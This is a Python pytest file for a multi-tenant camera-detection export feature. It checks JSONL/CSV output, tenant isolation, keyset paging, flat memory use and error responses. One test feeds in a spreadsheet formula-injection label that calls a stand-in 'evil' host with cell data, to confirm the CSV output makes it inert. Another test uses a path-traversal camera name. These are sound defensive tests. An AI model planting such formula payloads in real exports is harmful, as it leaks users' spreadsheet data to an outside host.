"""Bulk export: a camera's detections over a time range, streamed as JSONL or CSV,
through the API and the CLI, from real pipeline results; tenants see only their own;
memory stays flat however many runs the range holds."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from orchestrator.api.app import create_app
from orchestrator.api.keys import create_key
from orchestrator.cli import app as cli
from orchestrator.domain.layout import clip_id, run_id, upload_key
from orchestrator.embedded_s3 import EmbeddedS3
from orchestrator.exports import ExportQuery, export_lines
from orchestrator.exports.query import ExportError, sources
from orchestrator.service import Runtime, drive, open_runtime
from orchestrator.settings import Settings, load_settings
from orchestrator.store import Clip, Run, Store
from orchestrator.store.models import Role, RunStatus, utcnow
from tests.conftest import SampleClips

T0 = datetime(2026, 3, 1, 12, 0, 0, tzinfo=UTC)
HOUR = timedelta(hours=1)
JSONL, CSV = "application/x-ndjson", "text/csv"


def seed_runs(
    store: Store,
    tenant: str,
    camera: str,
    times: list[datetime | None],
    result: dict[str, Any],
    status: RunStatus = RunStatus.SUCCEEDED,
    pipeline: str = "faces",
) -> list[str]:
    """Clips recorded at ``times``, each with a finished run whose result is ``result``
    (its ids replaced): written in one transaction, as many as a test needs."""
    ids = []
    with store.session() as session:
        for n, at in enumerate(times):
            key = f"{tenant}/{camera}/seeded-{uuid.uuid4().hex[:8]}-{n}.mp4"
            clip = clip_id("ingest", key, "etag")
            run = run_id(clip, pipeline)
            session.add(
                Clip(
                    id=clip,
                    bucket="ingest",
                    key=key,
                    etag="etag",
                    size=1,
                    tenant=tenant,
                    camera=camera,
                    recorded_at=at,
                    planned=True,
                )
            )
            session.add(
                Run(
                    id=run,
                    clip_id=clip,
                    pipeline=pipeline,
                    status=status,
                    finished_at=utcnow(),
                    result={**result, "clip_id": clip, "run_id": run},
                )
            )
            ids.append(run)
        session.commit()
    return ids


def lines_of(result: dict[str, Any]) -> list[tuple[Any, ...]]:
    """What the export must say of one result: (t, label, score, box) per detection,
    and (t, None, None, None) for a frame where nothing was found."""
    rows: list[tuple[Any, ...]] = []
    for frame in result["frames"]:
        for det in frame["detections"] or [None]:
            rows.append(
                (frame["t"], None, None, None)
                if det is None
                else (frame["t"], det["label"], det["score"], det["box"])
            )
    return rows


def jsonl_rows(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.splitlines()]


def as_tuple(row: dict[str, Any]) -> tuple[Any, ...]:
    return (row["t"], row["label"], row["score"], row["box"])


SYNTHETIC = {
    "status": "succeeded",
    "frames": [
        {"t": 0.0, "detections": [{"label": "face", "score": 0.9, "box": [1.5, 2, 30, 40]}]},
        {"t": 0.2, "detections": []},
        {
            "t": 0.4,
            "detections": [
                {"label": "face", "score": 0.8, "box": [5, 6, 7, 8]},
                {"label": "face", "score": 0.7, "box": [50, 60, 70, 80]},
            ],
        },
    ],
}


# --- real results ----------------------------------------------------------------------


@dataclass
class World:
    runtime: Runtime
    client: TestClient
    keys: dict[str, dict[str, str]]
    #: acme's door: the face clip (at T0) and the one without a face (at T0 + 1 h).
    face: dict[str, Any]
    quiet: dict[str, Any]
    #: tenant "other"'s camera of the same name, with the face clip's frames.
    other_run: str


@pytest.fixture(scope="module")
def world(
    tmp_path_factory: pytest.TempPathFactory, s3_server: EmbeddedS3, clips: SampleClips
) -> Iterator[World]:
    """Two real clips of one camera through the real faces pipeline (watcher, engine,
    local processes, S3 over HTTP), once for the module."""
    suffix = uuid.uuid4().hex[:8]
    settings = load_settings(
        home=tmp_path_factory.mktemp("exports") / "home",
        s3={
            "endpoint_url": s3_server.endpoint_url,
            "embedded": False,
            "ingest_bucket": f"ingest-{suffix}",
            "results_bucket": f"results-{suffix}",
            "access_key_id": "testing",
            "secret_access_key": "testing",
        },
        watcher={"wait_seconds": 0},
    )
    with open_runtime(settings) as runtime:
        bucket = settings.s3.ingest_bucket
        face_key, quiet_key = upload_key("acme", "door", T0), upload_key("acme", "door", T0 + HOUR)
        runtime.s3.upload_file(clips.face, bucket, face_key)
        runtime.s3.upload_file(clips.no_face, bucket, quiet_key)
        runtime.watcher.tick()
        runtime.reconciler.plan_new_clips()
        drive(runtime, [r.id for r, _ in runtime.store.list_runs()], timeout=600)
        results = {}
        for key in (face_key, quiet_key):
            [run] = runtime.store.runs_of_clip(runtime.store.find_clip(key).id)
            assert run.status == RunStatus.SUCCEEDED, run.error
            results[key] = run.result
        [other_run] = seed_runs(runtime.store, "other", "door", [T0], results[face_key])
        keys = {}
        for name, tenant, role, camera in [
            ("acme", "acme", Role.CUSTOMER, None),
            ("other", "other", Role.CUSTOMER, None),
        ]:
            _, text = create_key(runtime.store, tenant, role, camera)
            keys[name] = {"Authorization": f"Bearer {text}"}
        yield World(
            runtime,
            TestClient(create_app(runtime)),
            keys,
            results[face_key],
            results[quiet_key],
            other_run,
        )


@pytest.mark.slow
def test_jsonl_has_a_line_per_detection_and_one_per_empty_frame(world: World) -> None:
    answer = world.client.get("/v1/exports?camera=door", headers=world.keys["acme"])
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == JSONL
    assert answer.headers["content-disposition"] == 'attachment; filename="door_start_now.jsonl"'
    rows = jsonl_rows(answer.text)
    # Oldest recording first: the face clip's lines, then the quiet one's.
    assert [as_tuple(r) for r in rows] == lines_of(world.face) + lines_of(world.quiet)
    faces = [r for r in rows if r["label"] == "face"]
    assert len(faces) == world.face["summary"]["detections"] >= 12  # real detections
    quiet = [r for r in rows if r["run_id"] == world.quiet["run_id"]]
    assert len(quiet) == world.quiet["summary"]["frames"] == 15  # every frame, none found
    assert all(r["label"] is None and r["box"] is None for r in quiet)
    first = rows[0]
    assert first["camera"] == "door" and first["pipeline"] == "faces"
    assert first["clip_id"] == world.face["clip_id"] and first["key"].startswith("acme/door/")
    assert first["time"] == "2026-03-01T12:00:00.000Z" and first["t"] == 0.0
    later = next(r for r in rows if r["t"] > 0)
    recorded = datetime.fromisoformat(later["time"])
    assert recorded == T0 + timedelta(seconds=later["t"])  # the camera's clock, not ours


@pytest.mark.slow
def test_csv_says_the_same_with_a_header_and_box_columns(world: World) -> None:
    answer = world.client.get(
        "/v1/exports?camera=door&format=csv&since=2026-03-01T00:00:00Z&until=2026-03-02T00:00:00Z",
        headers=world.keys["acme"],
    )
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith(CSV)
    assert answer.headers["content-disposition"] == (
        'attachment; filename="door_2026-03-01T000000Z_2026-03-02T000000Z.csv"'
    )
    table = list(csv.DictReader(io.StringIO(answer.text)))
    assert list(table[0]) == [
        *("time", "camera", "clip_id", "key", "run_id", "pipeline", "t", "label", "score"),
        *("x", "y", "w", "h"),
    ]
    said = [
        (
            float(r["t"]),
            r["label"] or None,
            float(r["score"]) if r["score"] else None,
            [float(r[c]) for c in "xywh"] if r["x"] else None,
        )
        for r in table
    ]
    assert said == lines_of(world.face) + lines_of(world.quiet)


@pytest.mark.slow
def test_the_range_is_since_inclusive_until_exclusive(world: World) -> None:
    def runs(query: str) -> set[str]:
        answer = world.client.get(f"/v1/exports?camera=door&{query}", headers=world.keys["acme"])
        assert answer.status_code == 200, answer.text
        return {r["run_id"] for r in jsonl_rows(answer.text)}

    face, quiet = world.face["run_id"], world.quiet["run_id"]
    assert runs("since=2026-03-01T13:00:00Z") == {quiet}
    assert runs("until=2026-03-01T13:00:00Z") == {face}
    # The same instant in another offset is the same range.
    assert runs("until=2026-03-01T14:00:00%2B01:00") == {face}
    assert runs("since=2026-03-01T13:00:01Z") == set()
    assert runs("pipeline=motion") == set()


@pytest.mark.slow
def test_a_tenant_exports_only_its_own_camera(world: World) -> None:
    mine = jsonl_rows(world.client.get("/v1/exports?camera=door", headers=world.keys["acme"]).text)
    theirs = jsonl_rows(
        world.client.get("/v1/exports?camera=door", headers=world.keys["other"]).text
    )
    # Same camera name, same frames, different tenants: neither sees the other's runs.
    assert {r["run_id"] for r in theirs} == {world.other_run}
    assert world.other_run not in {r["run_id"] for r in mine}
    assert [as_tuple(r) for r in theirs] == lines_of(world.face)


@pytest.mark.slow
def test_the_cli_writes_what_the_api_streams(world: World, tmp_path: Path) -> None:
    env = {"CAMFLOW_HOME": str(world.runtime.settings.home)}
    api_csv = world.client.get("/v1/exports?camera=door&format=csv", headers=world.keys["acme"])
    target = tmp_path / "door.csv"
    done = CliRunner().invoke(
        cli,
        ["export", "--tenant", "acme", "--camera", "door", "--format", "csv", "-o", str(target)],
        env=env,
    )
    assert done.exit_code == 0, done.output
    assert target.read_bytes() == api_csv.content
    assert not (tmp_path / "door.csv.partial").exists()
    assert "2/2" in done.stderr  # the progress bar counted both runs

    api_jsonl = world.client.get(
        "/v1/exports?camera=door&since=2026-03-01T13:00:00Z", headers=world.keys["acme"]
    )
    done = CliRunner().invoke(
        cli,
        ["export", "--tenant", "acme", "--camera", "door", "--since", "2026-03-01T13:00:00Z"],
        env=env,
    )
    assert done.exit_code == 0, done.output
    assert done.stdout == api_jsonl.text and done.stdout.count("\n") == 15


# --- refusals, isolation, paging and memory on seeded results ----------------------------


@pytest.fixture
def seeded(settings: Settings) -> Iterator[tuple[TestClient, dict[str, dict[str, str]], Runtime]]:
    with open_runtime(settings) as runtime:
        seed_runs(runtime.store, "acme", "door", [T0, T0 + HOUR], SYNTHETIC)
        seed_runs(runtime.store, "other", "gate", [T0], SYNTHETIC)
        keys = {}
        for name, tenant, role, camera in [
            ("customer", "acme", Role.CUSTOMER, None),
            ("admin", "acme", Role.ADMIN, None),
            ("camera", "acme", Role.CAMERA, "door"),
            ("author", "acme", Role.AUTHOR, None),
        ]:
            _, text = create_key(runtime.store, tenant, role, camera)
            keys[name] = {"Authorization": f"Bearer {text}"}
        yield TestClient(create_app(runtime)), keys, runtime


def _problem(answer: Any, status: int) -> str:
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"].startswith("application/problem+json")
    return str(answer.json()["detail"])


def test_refusals_are_problems_that_say_what_to_send(
    seeded: tuple[TestClient, dict[str, dict[str, str]], Runtime],
) -> None:
    client, keys, _ = seeded
    customer = keys["customer"]
    _problem(client.get("/v1/exports?camera=door"), 401)
    assert "customer" in _problem(
        client.get("/v1/exports?camera=door", headers=keys["camera"]), 403
    )
    _problem(client.get("/v1/exports?camera=door", headers=keys["author"]), 403)
    assert "jsonl, csv" in _problem(
        client.get("/v1/exports?camera=door&format=xml", headers=customer), 400
    )
    assert "since: not an RFC 3339" in _problem(
        client.get("/v1/exports?camera=door&since=2026-03-01", headers=customer), 400
    )
    assert "until: not an RFC 3339" in _problem(
        client.get("/v1/exports?camera=door&until=2026-03-01T12:00:00", headers=customer), 400
    )
    assert "not before until" in _problem(
        client.get(
            "/v1/exports?camera=door&since=2026-03-02T00:00:00Z&until=2026-03-01T00:00:00Z",
            headers=customer,
        ),
        400,
    )
    assert "not a camera name" in _problem(
        client.get("/v1/exports?camera=..%2Fgate", headers=customer), 400
    )
    assert _problem(client.get("/v1/exports", headers=customer), 400)  # no camera
    # Another tenant's camera answers as one that never uploaded: nothing leaks.
    gate = _problem(client.get("/v1/exports?camera=gate", headers=customer), 404)
    nowhere = _problem(client.get("/v1/exports?camera=nowhere", headers=customer), 404)
    assert gate.replace("gate", "X") == nowhere.replace("nowhere", "X")
    # An admin exports its own tenant's camera like a customer.
    answer = client.get("/v1/exports?camera=door", headers=keys["admin"])
    assert answer.status_code == 200 and len(jsonl_rows(answer.text)) == 2 * 4


def test_the_cli_refuses_with_a_clear_error(
    seeded: tuple[TestClient, dict[str, dict[str, str]], Runtime],
) -> None:
    _, _, runtime = seeded
    env = {"CAMFLOW_HOME": str(runtime.settings.home)}
    base = ["export", "--tenant", "acme"]
    for args, says in [
        (["--camera", "gate"], "no camera 'gate' in tenant 'acme'"),
        (["--camera", "door", "--since", "yesterday"], "--since 'yesterday': not an RFC 3339"),
        (
            [
                "--camera",
                "door",
                "--since",
                "2026-03-02T00:00:00Z",
                "--until",
                "2026-03-01T00:00:00Z",
            ],
            "not before until",
        ),
    ]:
        done = CliRunner().invoke(cli, base + args, env=env)
        assert done.exit_code == 1, done.output
        assert says in " ".join(done.output.split()), done.output
    done = CliRunner().invoke(cli, [*base, "--camera", "door", "--format", "xml"], env=env)
    assert done.exit_code == 2 and "xml" in done.output


def test_pages_walk_every_run_once_in_recording_order(store_url: str) -> None:
    """Keyset paging on (recorded at, run id), on SQLite and PostgreSQL: ties on the
    time, pages smaller than a tie, and what is not the camera's, not succeeded, or
    has no recording time is never in it."""
    store = Store(store_url)
    try:
        times = [T0 + timedelta(minutes=n // 3) for n in range(20)]  # threes share a time
        mine = seed_runs(store, "acme", "door", times, SYNTHETIC)
        seed_runs(store, "acme", "door", [T0, T0 + HOUR], SYNTHETIC, status=RunStatus.FAILED)
        seed_runs(store, "acme", "door", [None], SYNTHETIC)
        seed_runs(store, "acme", "porch", [T0], SYNTHETIC)
        seed_runs(store, "other", "door", [T0], SYNTHETIC)
        query = ExportQuery(tenant="acme", camera="door")
        order = sorted(zip(times, mine, strict=True))
        for size in (1, 2, 3, 4, 500):
            walked = [s.run_id for s in sources(store, query, page_size=size)]
            assert walked == [r for _, r in order], size
        ranged = ExportQuery(
            tenant="acme",
            camera="door",
            since=T0 + timedelta(minutes=2),
            until=T0 + timedelta(minutes=4),
        )
        assert [s.run_id for s in sources(store, ranged, page_size=2)] == [
            r for t, r in order if T0 + timedelta(minutes=2) <= t < T0 + timedelta(minutes=4)
        ]
        assert not list(sources(store, query.model_copy(update={"pipeline": "motion"})))
    finally:
        store.close()


def test_a_query_that_cannot_be_answered_says_why() -> None:
    with pytest.raises(ExportError, match="not a camera name"):
        ExportQuery(tenant="acme", camera="a/b")
    with pytest.raises(ExportError, match="range is"):
        ExportQuery(tenant="acme", camera="door", since=T0, until=T0)


def _peak(store: Store, query: ExportQuery) -> tuple[int, int]:
    """tracemalloc's peak while the whole export is read and dropped, and its lines."""
    count = 0
    tracemalloc.start()
    try:
        for chunk in export_lines(store, query, "jsonl", page_size=20):
            count += chunk.count("\n")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, count


def test_memory_stays_flat_however_many_runs_the_range_holds(tmp_path: Path) -> None:
    """Ten times the runs, the same peak: a page of ids and one result at a time."""
    store = Store(f"sqlite:///{tmp_path / 'camflow.db'}")
    try:
        frames = [
            {"t": n / 5, "detections": [{"label": "face", "score": 0.9, "box": [n, n, 40, 40]}]}
            for n in range(100)
        ]
        result = {"status": "succeeded", "frames": frames}
        seed_runs(store, "acme", "few", [T0 + timedelta(minutes=n) for n in range(40)], result)
        seed_runs(store, "acme", "many", [T0 + timedelta(minutes=n) for n in range(400)], result)
        _peak(store, ExportQuery(tenant="acme", camera="few"))  # warm caches first
        few, few_lines = _peak(store, ExportQuery(tenant="acme", camera="few"))
        many, many_lines = _peak(store, ExportQuery(tenant="acme", camera="many"))
    finally:
        store.close()
    assert (few_lines, many_lines) == (40 * 100, 400 * 100)
    assert many < few * 1.5, (few, many)


def test_a_label_is_never_a_spreadsheet_formula_and_odd_numbers_are_skipped() -> None:
    """A stage may name its labels anything: one that starts a formula is made inert in
    CSV; NaN, infinity or a time past any clip skip their frame rather than break the
    stream (or write JSON that is not JSON)."""
    from datetime import UTC, datetime

    from orchestrator.exports.lines import RunSource, render_run

    source = RunSource(
        "door", "c-1", "t/door/a.mp4", "r-1", "faces", datetime(2026, 3, 1, tzinfo=UTC)
    )
    evil = '=HYPERLINK("http://evil/?"&A1,"face")'
    result = {
        "frames": [
            {"t": 0.0, "detections": [{"label": evil, "score": 0.9, "box": [1, 2, 3, 4]}]},
            {"t": 0.2, "detections": [{"label": "-1+1", "score": 0.5}]},
            {"t": float("nan"), "detections": []},
            {"t": 1e20, "detections": []},
            {"t": 0.4, "detections": [{"label": "face", "score": float("inf")}]},
        ]
    }
    csv_run = render_run(source, result, "csv")
    assert csv_run.skipped == 3 and csv_run.lines == 2
    rows = list(csv.reader(io.StringIO(csv_run.text)))
    assert [r[7] for r in rows] == ["'" + evil, "'-1+1"]
    assert rows[0][8] == "0.9" and rows[0][9:] == ["1.0", "2.0", "3.0", "4.0"]
    jsonl = render_run(source, result, "jsonl")
    assert [json.loads(line)["label"] for line in jsonl.text.splitlines()] == [evil, "-1+1"]
